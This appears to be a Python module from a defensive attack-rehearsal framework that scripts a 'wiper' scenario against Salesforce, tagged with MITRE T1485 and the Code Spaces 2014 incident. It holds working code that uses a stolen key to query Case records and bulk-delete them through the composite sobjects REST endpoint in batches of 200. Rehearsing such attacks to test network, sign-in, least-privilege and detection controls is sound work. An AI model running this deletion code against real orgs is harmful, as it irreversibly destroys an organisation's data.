"""A wiper: what a stolen key may delete is gone, and an emptied recycle bin does not bring it back."""

from collections.abc import Iterator
from functools import partial

from tasks.rehearsal.model import Attack, Caller, Gain, Layer, Refused, Step
from tasks.rehearsal.moves import LOOKING_ROUND, every, sign_in

AT_ONCE = 200
"""Records that one call deletes (REST API guide, sObject Collections)."""
CALLS = 12


def list_cases(caller: Caller) -> Gain:
    found = _ids(caller, AT_ONCE)
    if not found:
        raise Refused(200, "NO_ROWS")
    return Gain(f"{len(found)} cases to begin with")


def delete_some(calls: int, caller: Caller) -> Gain:
    """Stops at the first call that is refused, as a loop in a script does."""
    gone = 0
    for part in _parts(_ids(caller, calls * AT_ONCE)):
        answers = caller.call(
            "DELETE", "composite/sobjects", query={"ids": ",".join(part), "allOrNone": "false"}
        )
        gone += sum(bool(each["success"]) for each in answers)
    if not gone:
        raise Refused(200, "NOTHING_DELETED")
    return Gain(f"{gone:,} cases deleted", gone, "Case")


def _ids(caller: Caller, rows: int) -> list[str]:
    soql = f"SELECT Id FROM Case{caller.only('Case')} LIMIT {rows}"
    return [str(each["Id"]) for each in every(caller, soql)]


def _parts(ids: list[str]) -> Iterator[list[str]]:
    for start in range(0, len(ids), AT_ONCE):
        yield ids[start : start + AT_ONCE]


ATTACK = Attack(
    "wiper",
    "A wiper with a stolen key",
    (
        Step("Sign in from abroad with the key", sign_in),
        Step("List cases", list_cases),
        Step("Delete a first call's worth", partial(delete_some, 1), harmless=False),
        Step("Delete thousands", partial(delete_some, CALLS), after=LOOKING_ROUND, harmless=False),
    ),
    incident="Code Spaces, 2014: who could delete everything did, backups included",
    technique="T1485",
    layers=(Layer.NETWORK, Layer.SIGN_IN, Layer.LEAST_PRIVILEGE, Layer.DETECTION),
)
